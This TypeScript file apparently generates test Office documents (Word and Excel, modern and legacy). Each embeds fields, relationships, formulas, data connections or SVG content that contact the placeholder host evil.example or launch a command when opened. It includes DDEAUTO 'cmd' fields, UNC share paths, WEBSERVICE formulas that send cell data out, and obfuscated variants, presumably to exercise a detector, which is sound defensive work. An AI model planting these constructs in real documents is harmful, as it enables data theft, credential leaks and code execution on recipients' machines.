import { strToU8, type Zippable } from 'fflate';
import { biff, compoundFile, wordStreams, workbookStream } from './compound-streams.ts';
import { code, docx, field, mark, part, relationship, rels, run, sheet, wide, word, xlsx } from './office-words.ts';

export type MadeFile = readonly [title: string, content: Buffer];

/** Where a document asks when it is opened. */
export const places = [
  'http://evil.example/a',
  'HTTPS://evil.example:8443/a?b=c',
  'ftp://user:word@evil.example/a',
  '\\\\evil.example\\share\\a',
  'file://evil.example/share/a',
  'file:////evil.example/share/a',
  '//evil.example/a',
  '\\\\?\\UNC\\evil.example\\share\\a',
] as const;
const [place] = places;

/** Fields that load something (ECMA-376-1, 17.16.5), with their older names. */
const keywords = ['INCLUDEPICTURE', 'INCLUDETEXT', 'INCLUDE', 'IMPORT', 'LINK Word.Document.12', 'RD', 'DATABASE \\d'];
const starting = ['DDE cmd', 'DDEAUTO cmd'];

const deleted = (text: string) => `<w:del><w:r><w:delInstrText>${text}</w:delInstrText></w:r></w:del>`;
const halves = (text: string) => [text.slice(0, 3), text.slice(3)] as const;

/** The ways in which a field is written. */
const shapes: Readonly<Record<string, (instruction: string) => string>> = {
  simple: (text) => `<w:fldSimple w:instr="${text.replaceAll('"', '&quot;')}"/>`,
  complex: (text) => field(text),
  'without a result': (text) => mark('begin') + code(text) + mark('end'),
  'never ended': (text) => mark('begin') + code(text),
  'in several runs': (text) => field(...text.match(/.{1,2}/g)!),
  'in small letters': (text) => field(text.toLowerCase()),
  'in pieces of one run': (text) =>
    mark('begin') +
    run([...text].map((one) => `<w:instrText>${one}</w:instrText>`).join('')) +
    mark('separate') +
    mark('end'),
  'by references': (text) => field([...text].map((one) => `&#${one.charCodeAt(0)};`).join('')),
  'with a comment inside': (text) => field(`${halves(text)[0]}<!-- x -->${halves(text)[1]}`),
  'with what was deleted from it': (text) =>
    mark('begin') + code(halves(text)[0]) + deleted('x') + code(halves(text)[1]) + mark('end'),
  'deleted in part': (text) => mark('begin') + code(halves(text)[0]) + deleted(halves(text)[1]) + mark('end'),
  'put together by another field': (text) => mark('begin') + field('QUOTE 73') + code(text.slice(1)) + mark('end'),
  'with a prefix of its own': (text) => field(text).replaceAll('w:', '\u00e9:'),
  'in alternatives': (text) =>
    mark('begin') +
    code(halves(text)[0]) +
    `<mc:AlternateContent><mc:Choice Requires="x">${code('x')}</mc:Choice><mc:Fallback>${code(halves(text)[1])}</mc:Fallback></mc:AlternateContent>` +
    mark('end'),
  'within another field': (text) => mark('begin') + code(' IF 1 = 1 ') + field(text) + mark('separate') + mark('end'),
  'in what another field shows': (text) => mark('begin') + code(' TOC ') + mark('separate') + field(text) + mark('end'),
  'in a text box': (text) =>
    run(
      `<mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent><w:p>${field(text)}</w:p></w:txbxContent></wps:txbx></w:drawing></mc:Choice></mc:AlternateContent>`,
    ),
  'in a table of a content control': (text) =>
    `<w:sdt><w:sdtContent><w:tbl><w:tr><w:tc><w:p>${field(text)}</w:p></w:tc></w:tr></w:tbl></w:sdtContent></w:sdt>`,
};
const parts = {
  'word/document.xml': 'document',
  'word/header1.xml': 'hdr',
  'word/footer1.xml': 'ftr',
  'word/comments.xml': 'comments',
  'word/footnotes.xml': 'footnotes',
  'word/endnotes.xml': 'endnotes',
  'word/glossary/document.xml': 'glossaryDocument',
  'word/anything.xml': 'document',
};

function* fields(): Generator<MadeFile> {
  for (const keyword of [...keywords, ...starting])
    for (const [shape, write] of Object.entries(shapes))
      yield [`docx: ${keyword}, ${shape}`, word(write(` ${keyword} "${place}" \\* MERGEFORMAT `))];
  for (const keyword of keywords)
    for (const [name, root] of Object.entries(parts))
      yield [`docx: ${keyword} in ${name}`, docx({ [name]: strToU8(part(field(` ${keyword} "${place}"`), root)) })];
  for (const target of [...places, 'C:\\\\Users\\\\R\\\\a.png'])
    yield [`docx: a picture from ${target}`, word(field(` INCLUDEPICTURE  "${target.replaceAll('\\', '\\\\')}" \\d`))];
  yield [
    'docx: a field in UTF-16',
    docx({ 'word/footer1.xml': wide(part(field(` INCLUDETEXT "${place}"`)).replace('UTF-8', 'UTF-16')) }),
  ];
}

/** Types of relationships (ECMA-376-1, parts 11 to 15, and what Office added), but for links. */
const types = [
  ...['aFChunk', 'attachedTemplate', 'audio', 'calcChain', 'chart', 'chartsheet', 'chartUserShapes', 'chartEx'],
  ...['commentAuthors', 'comments', 'connections', 'control', 'customProperty', 'customXml', 'customXmlProps'],
  ...['diagramColors', 'diagramData', 'diagramDrawing', 'diagramLayout', 'diagramQuickStyle', 'dialogsheet', 'drawing'],
  ...['endnotes', 'externalLink', 'externalLinkPath', 'externalLinkLongPath', 'font', 'fontTable', 'footer'],
  ...['footnotes', 'frame', 'glossaryDocument', 'handoutMaster', 'header', 'image', 'mailMergeHeaderSource'],
  ...['mailMergeSource', 'media', 'notesMaster', 'notesSlide', 'numbering', 'officeDocument', 'oleObject', 'package'],
  ...['pivotCacheDefinition', 'pivotCacheRecords', 'pivotTable', 'presProps', 'printerSettings', 'queryTable'],
  ...['recipientData', 'revisionHeaders', 'revisionLog', 'settings', 'sharedStrings', 'sheetMetadata', 'slide'],
  ...['slideLayout', 'slideMaster', 'slideUpdateUrl', 'stylesWithEffects', 'styles', 'subDocument', 'table'],
  ...['tableSingleCells', 'tableStyles', 'tags', 'theme', 'themeOverride', 'thumbnail', 'transform', 'usernames'],
  ...['vbaProject', 'video', 'viewProps', 'vmlDrawing', 'volatileDependencies', 'webextension', 'webSettings'],
  ...['worksheet', 'wordVbaData', 'xlExternalLinkPath/xlPathMissing', 'xlExternalLinkPath/xlStartup', 'xmlMaps'],
  ...['customUI', 'extended-properties', 'core-properties', 'digital-signature/origin', 'unknown'],
];

function* relationships(): Generator<MadeFile> {
  for (const type of types) {
    yield [`docx: ${type}`, docx({ 'word/_rels/document.xml.rels': rels(relationship(type, place, 'External')) })];
    yield [`xlsx: ${type}`, xlsx({ 'xl/_rels/workbook.xml.rels': rels(relationship(type, place, 'External')) })];
  }
  for (const target of [
    ...places,
    '&#104;ttp://evil.example/a',
    'mhtml:http://evil.example/a!b',
    'http:%2f%2fevil.example/a',
  ])
    for (const [type, from] of [
      ['image', 'document'],
      ['attachedTemplate', 'settings'],
      ['frame', 'webSettings'],
      ['subDocument', 'document'],
      ['mailMergeSource', 'settings'],
    ] as const)
      yield [
        `docx: ${type} of ${target}`,
        docx({ [`word/_rels/${from}.xml.rels`]: rels(relationship(type, target, 'External')) }),
      ];
  yield [
    'docx: a link that nobody clicks, of relationships with another name',
    docx({
      '/word//_rels/./Document.xml.rels': rels(relationship('hyperlink', place, 'External')),
      'word/document.xml': strToU8(part('<a:blip r:link="rId1"/>')),
    }),
  ];
  yield [
    'docx: a target behind what looks like one',
    docx({
      'word/_rels/document.xml.rels': rels(
        `<Relationship Id="rId1" Type="x/image" \u00e9=' Target="' Target="${place}" TargetMode="External"/>`,
      ),
    }),
  ];
  yield [
    'docx: a picture that is not said to be elsewhere',
    docx({ 'word/_rels/document.xml.rels': rels(relationship('image', place)) }),
  ];
  for (const target of places)
    yield [
      `xlsx: another workbook at ${target}`,
      xlsx({
        'xl/externalLinks/_rels/externalLink1.xml.rels': rels(relationship('externalLinkPath', target, 'External')),
      }),
    ];
}

const link: Zippable = { 'word/_rels/document.xml.rels': rels(relationship('hyperlink', place, 'External')) };
const clickless = [
  '<a:blip r:link="rId1"/>',
  '<v:imagedata r:href="rId1"/>',
  '<w:attachedTemplate r:id="rId1"/>',
  '<w:subDoc r:id="rId1"/>',
  "<w:sourceFileName x:id = 'rId1'/>",
  '<wp14:x r:embed="rId1"/>',
];
const vml = [
  `<v:imagedata src="${place}"/>`,
  `<v:imagedata r:id="rId9" o:href="${place}"/>`,
  `<v:fill type="frame" o:althref="${place}"/>`,
  `<v:stroke src='\\\\evil.example\\a'/>`,
  `<v:image src="${place}"/>`,
];
const elements = [
  `<w:mailMerge><w:connectString w:val="Provider=x;Data Source=${place};Mode=Read"/></w:mailMerge>`,
  `<w:odso><w:udl w:val="Provider=SQLOLEDB;Server=evil.example"/></w:odso>`,
  `<sl:schema sl:manifestLocation="${place}"/>`,
  `<we:reference id="x" version="1" store="${place}" storeType="SPCatalog"/>`,
  '<w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId9" UpdateMode="Always"/></w:object>',
  '<w:object><w:objectLink r:id="rId9" w:progId="Excel.Sheet.12" w:updateMode="always"/></w:object>',
];
const drawings = [
  `<svg xmlns="s"><image href="${place}"/></svg>`,
  `<?xml version="1.0"?><!-- x --><svg:svg xmlns:svg="s"><svg:image xlink:href='${place}'/></svg:svg>`,
  `<svg><use href="//evil.example/a#b"/></svg>`,
  `<svg><rect style="fill:url(${place})"/></svg>`,
  `<svg><style>@import "${place}";</style></svg>`,
  `<svg><style><![CDATA[@font-face { src: url(${place}) }]]></style></svg>`,
  '<svg><script>x()</script></svg>',
  '<svg onload="x()"/>',
  '<svg><a href="javascript:x()"/></svg>',
];

function* wordElements(): Generator<MadeFile> {
  for (const element of clickless)
    yield [
      `docx: a link that nobody clicks, ${element}`,
      docx({ ...link, 'word/document.xml': strToU8(part(element)) }),
    ];
  for (const element of [...vml, ...elements]) yield [`docx: ${element}`, word(element)];
  for (const drawing of drawings) yield [`docx: ${drawing}`, docx({ 'word/media/image1.svg': strToU8(drawing) })];
  yield ['docx: a page put in', docx({ 'word/_rels/document.xml.rels': rels(relationship('aFChunk', 'a.html')) })];
}

const formulas = [
  'WEBSERVICE("http://evil.example/a")',
  '_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)',
  'IF(1,_xlfn.WEBSERVICE(A1))',
  '_xlfn.IMAGE("http://evil.example/a.png")',
  '_xlfn.IMAGE (A1)',
  '_xlfn.LAMBDA(_xlpm.f,_xlpm.f("http://evil.example"))(_xleta.WEBSERVICE)',
  '_xlfn.STOCKHISTORY("MSFT",TODAY())',
  '_xlfn.IMPORTTEXT("http://evil.example")',
  'RTD("a.b","evil.example","c")',
  'RTD&#40;"a.b",,"c")',
  'CALL("kernel32","x")',
  "'\\\\evil.example\\share\\[a.xlsx]S'!A1",
  "'http://evil.example/[a.xlsx]S'!A1",
  'WEB<![CDATA[]]>SERVICE(A1)',
  'WEB<![CDATA[SERVICE("http://evil.example")]]>',
];
const tables = [
  `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="${place}"/></connection></connections>`,
  `<connections><connection id="1" type="4" name="${'x'.repeat(300_000)}" refreshOnLoad="true"><webPr url="${place}"/></connection></connections>`,
  `<connections><connection id="1" interval="5"><dbPr connection="Provider=x;Data Source=\\\\evil.example\\a"/></connection></connections>`,
  '<connections><connection id="1" refreshOnLoad="1"><textPr sourceFile="\\\\evil.example\\a.txt"/></connection></connections>',
  '<connections><connection id="1" refreshOnLoad="1"><olapPr/></connection></connections>',
  '<connections><connection id="1" refreshOnLoad="1"/></connections>',
  '<queryTable name="a" connectionId="1" refreshOnLoad="1"/>',
  '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
  '<volTypes><volType type="realTimeData"><main first="a.b"/></volType></volTypes>',
  `<externalLink><oleLink r:id="rId1" progId="x"/></externalLink>`,
  '<worksheet><oleObjects><oleObject link="[1]!x" oleUpdate="OLEUPDATE_ALWAYS" progId="Excel.Sheet.12"/></oleObjects></worksheet>',
];

function* workbookElements(): Generator<MadeFile> {
  for (const formula of formulas) {
    yield [`xlsx: ${formula}`, sheet(`<c><f>${formula}</f></c>`)];
    yield [
      `xlsx: a name, ${formula}`,
      xlsx({ 'xl/a.xml': strToU8(`<definedNames><definedName name="a">${formula}</definedName></definedNames>`) }),
    ];
    yield [
      `xlsx: a rule, ${formula}`,
      xlsx({
        'xl/worksheets/sheet1.xml': strToU8(`<worksheet><cfRule><formula>${formula}</formula></cfRule></worksheet>`),
      }),
    ];
    yield [
      `xlsx: a column, ${formula}`,
      xlsx({
        'xl/tables/table1.xml': strToU8(`<table><calculatedColumnFormula>${formula}</calculatedColumnFormula></table>`),
      }),
    ];
  }
  for (const table of tables) yield [`xlsx: ${table.slice(0, 150)}`, xlsx({ 'xl/x.xml': strToU8(table) })];
  for (const element of vml)
    yield [`xlsx: ${element}`, xlsx({ 'xl/drawings/vmlDrawing1.vml': strToU8(`<xml xmlns:v="v">${element}</xml>`) })];
  for (const drawing of drawings) yield [`xlsx: ${drawing}`, xlsx({ 'xl/media/image1.svg': strToU8(drawing) })];
  yield [
    'xlsx: the picture of a cell',
    xlsx({
      'xl/richData/rdRichValueWebImage.xml': strToU8(
        '<webImagesSrd><webImageSrd><address r:id="rId1"/></webImageSrd></webImagesSrd>',
      ),
      'xl/richData/_rels/rdRichValueWebImage.xml.rels': rels(relationship('hyperlink', place, 'External')),
    }),
  ];
}

const utf16 = (text: string) => Buffer.from(text, 'utf16le');

/** A Word document with a list of names at this place of its header. */
function withNames(place: number, names: readonly string[], extra: number): Buffer {
  const streams = wordStreams([['Text', false]]);
  const list = Buffer.concat([
    Buffer.from([0xff, 0xff, names.length, 0, extra, 0]),
    ...names.map((name) => Buffer.concat([Buffer.from([name.length, 0]), utf16(name), Buffer.alloc(extra)])),
  ]);
  const [header, table] = [streams.WordDocument!, streams['1Table']!];
  header.writeUInt32LE(table.length, place);
  header.writeUInt32LE(list.length, place + 4);
  return compoundFile({ ...streams, '1Table': Buffer.concat([table, list]) });
}
/** Its template is the second of the files that go with it, the sources of a mail merge the ninth and tenth. */
const withAssociated = (at: number, name: string) =>
  withNames(
    0x019a,
    Array.from({ length: 18 }, (_, one) => (one === at ? name : '')),
    0,
  );

const linkedPicture = (flags: number) =>
  Buffer.concat([Buffer.from([6, 0xc1, 60, 0, 0, 0, 7, 1, flags, 0, 0, 0]), utf16('http://evil.example/a.png\0')]);
const supBook = (path: string) =>
  biff(0x01ae, Buffer.concat([Buffer.from([1, 0, path.length, 0, 0]), Buffer.from(path, 'latin1')]));
const workbook = (...records: Buffer[]) => compoundFile({ Workbook: workbookStream(records) });
const name = (text: string) => biff(0x0018, Buffer.concat([Buffer.alloc(14), Buffer.from([0]), Buffer.from(text)]));

function* olderFiles(): Generator<MadeFile> {
  for (const keyword of [...keywords, ...starting])
    for (const isWide of [false, true]) {
      const text = `\x13 ${keyword} "${place}" \\d \x14x\x15`;
      yield [`doc: ${keyword}, ${isWide ? 'wide' : 'narrow'}`, compoundFile(wordStreams([[`Text ${text}`, isWide]]))];
    }
  for (const target of places) yield [`doc: a template from ${target}`, withAssociated(1, target)];
  yield ['doc: the data of a mail merge', withAssociated(8, 'C:\\data.xls')];
  yield ['doc: the header of a mail merge', withAssociated(9, 'C:\\data.xls')];
  yield ['doc: a part from a file', withNames(0x02da, ['', '\\\\evil.example\\a.doc'], 16)];
  yield [
    'doc: a picture that is linked',
    compoundFile({ ...wordStreams([['Text', false]]), Data: linkedPicture(0x0a) }),
  ];
  yield ['xls: a picture that is linked', workbook(biff(0x00ec, linkedPicture(0x0a)))];
  yield ['xls: a workbook on a share', workbook(supBook('\x01\x01@evil.example\x03share\x03a.xls'))];
  yield ['xls: a workbook on the web', workbook(supBook('\x01\x05\x19http://evil.example/a.xls'))];
  yield ['xls: a table refreshed at opening', workbook(biff(0x01ad, Buffer.from([0x20, 0, 0, 0, 0, 0])))];
  yield ['xls: WEBSERVICE', workbook(name('_xlfn.WEBSERVICE'))];
  yield ['xls: IMAGE', workbook(name('_xlfn.IMAGE'))];
  yield ['xls: RTD', workbook(biff(0x0813, Buffer.alloc(20)))];
  const cache = Buffer.alloc(24);
  cache.writeUInt16LE(0x0004, 6);
  cache.writeUInt16LE(2, 16);
  yield [
    'xls: a pivot table refreshed at opening',
    compoundFile({ Workbook: workbookStream([]), '0001': biff(0x00c6, cache) }, { _SX_DB_CUR: 1 }),
  ];
}

/** Office files of every field, relationship and element of the standards that asks another computer, or starts a program, when the file is opened. */
export const loadingOfficeFiles = (): readonly MadeFile[] => [
  ...fields(),
  ...relationships(),
  ...wordElements(),
  ...workbookElements(),
  ...olderFiles(),
];
